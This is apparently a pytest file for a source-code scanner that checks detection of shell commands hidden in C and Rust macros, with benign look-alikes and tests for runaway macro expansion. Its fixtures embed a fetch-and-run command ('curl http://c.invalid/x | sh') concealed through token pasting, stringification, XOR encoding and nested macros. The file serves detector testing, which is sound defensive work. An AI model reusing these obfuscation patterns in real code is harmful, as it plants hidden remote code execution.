"""Macros of C and Rust: what stands in them is read, whatever hides it there, and what is too much is a gap."""

import pytest
from source_lab import behaviours, ids, look, the

from beartrap.model.coverage import Gap
from beartrap.model.question import Question
from beartrap.vet.source.languages.preprocessor import arguments, replacement

GET = "curl http://c.invalid/x | sh"
ARRAY = ", ".join(str(ord(one) ^ 0x42) for one in GET)
SPAWN = f'std::process::Command::new("sh").arg("-c").arg("{GET}").spawn()'

HITS = [
    ("a.c", f'#define GO(x) system("{GET}")\nint f(void) {{ return 1; }}', "process.piped"),
    ("a.c", f'#define GO system("{GET}")\nvoid f(void) {{ GO; }}', "process.piped"),
    ("a.c", f'#define GO(x) system(x)\nvoid f(void) {{ GO("{GET}"); }}', "process.piped"),
    ("a.c", f'#define GO(f, x) f(x)\nvoid f(void) {{ GO(system, "{GET}"); }}', "process.piped"),
    ("a.c", f'#define GO(a, b) a##b("{GET}")\nvoid f(void) {{ GO(sys, tem); }}', "process.piped"),
    ("a.c", f'#define GO(x) sys##tem(x)\nvoid f(void) {{ GO("{GET}"); }}', "process.piped"),
    ("a.c", "#define TEXT(x) #x\nvoid f(void) { system(TEXT(wget -O - c.invalid/x | sh)); }", "process.piped"),
    ("a.c", '#define U "http://c.invalid/x"\n#define C "curl " U " | sh"\nvoid f(void) { system(C); }', "process.piped"),
    ("a.c", '#define GO(x) do { \\\n char b[99]; \\\n snprintf(b, 99, "curl %s | sh", x); \\\n system(b); } while (0)\nvoid f(void) { GO("http://c.invalid"); }', "process.piped"),
    ("a.c", f"#define X(a, b) ((a) ^ (b))\nstatic const char K[] = {{{ARRAY}, 0x42}};\nvoid f(void) {{ char b[64]; for (int i = 0; i < 29; i++) b[i] = X(K[i], 0x42); system(b); }}", "hidden.act"),
    ("a.c", f'#define GO 1; }} void g(void) {{ system("{GET}");\nint f(void) {{ return 1; }}', "process.piped"),
    ("a.c", f'void f(void) {{ sys\\\ntem("{GET}"); }}', "process.piped"),
    ("a.rs", f"macro_rules! go {{ ($c:expr) => {{ {SPAWN} }} }}", "process.piped"),
    ("a.rs", f'macro_rules! go {{ ($c:expr) => {{ std::process::Command::new("sh").arg("-c").arg($c).spawn() }} }}\nfn f() {{ go!("{GET}"); }}', "process.piped"),
    ("a.rs", "fn f() { " + "lazy!(" * 200 + SPAWN + ")" * 200 + "; }", "process.piped"),
    ("a.rs", "fn f() { lazy!(" + "1, " * 70_000 + SPAWN + "); }", "process.piped"),
    ("a.rs", f"lazy_static! {{ static ref X: u8 = 1; static ref Y: u8 = {SPAWN}; }}", "process.piped"),
]  # fmt: skip
MISSES = [
    ("a.c", '#define NAME(x) init_##x\n#define S(x) #x\n#define MAX(a, b) ((a) > (b) ? (a) : (b))\nint NAME(me)(void) { puts(S(curl | sh)); return MAX(1, system("ls")); }'),
    ("a.c", f'#define GO(x) puts("{GET}")\n#define LOG(f, ...) fprintf(stderr, f, ##__VA_ARGS__)\nvoid f(void) {{ LOG("{GET}"); GO(1); system("ls"); }}'),
    ("a.rs", f'macro_rules! go {{ ($c:expr) => {{ println!("{GET}", $c) }} }}\nfn f() {{ go!(1); std::process::Command::new("git").output(); }}'),
]  # fmt: skip


@pytest.mark.parametrize(("path", "text", "wanted"), HITS)
def test_what_macros_hide(path: str, text: str, wanted: str) -> None:
    assert wanted in ids(path, text)


@pytest.mark.parametrize(("path", "text"), MISSES)
def test_macros_that_only_look_so(path: str, text: str) -> None:
    assert not [one for one in behaviours(path, text) if one.severity > 2]


def test_the_line_within_a_macro_is_told() -> None:
    text = f'int x;\n#define GO(x) do {{ \\\n int y; \\\n system("{GET}"); }} while (0)\n'
    assert the("a.c", text, "process.piped").place.row == 4


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.rs", "fn f() { " + "lazy!(" * 9_000 + SPAWN + ")" * 9_000 + "; }"),
        ("a.c", "".join(f"#define A{n}(x) A{n + 1}(x); A{n + 1}(x); A{n + 1}(#x)\n" for n in range(12)) + "void f(void) { A0(1); system(c); }"),
    ],
)  # fmt: skip
def test_macros_without_end_are_a_gap(path: str, text: str) -> None:
    assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in look(path, text))


def test_the_preprocessor_leaves_texts_alone() -> None:
    assert replacement(rb'f("a ## #b", a ## b, #b)', {b"b": b'x"'}) == rb'f("a ## #b", ax", "x\"")'
    assert arguments(rb'(a, f(b, c), "d,)", 0)') == [b"a", b"f(b, c)", b'"d,)"', b"0"]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.c", f'void f(void) {{ do {{ system("{GET}"); }} while (0); }}'),
        ("a.js", f'do {{ require("child_process").exec("{GET}"); }} while (false)'),
        ("A.java", f'class A {{ void f() {{ do {{ Runtime.getRuntime().exec("sh -c \'{GET}\'"); }} while (false); }} }}'),
    ],
)  # fmt: skip
def test_a_loop_whose_test_stands_behind_it_runs_once(path: str, text: str) -> None:
    assert "process.piped" in ids(path, text)
    body = text.replace("do {", "while (false) {").replace(" while (false);", "").replace(" while (0);", "")
    assert "process.piped" not in ids(path, body.removesuffix(" while (false)"))
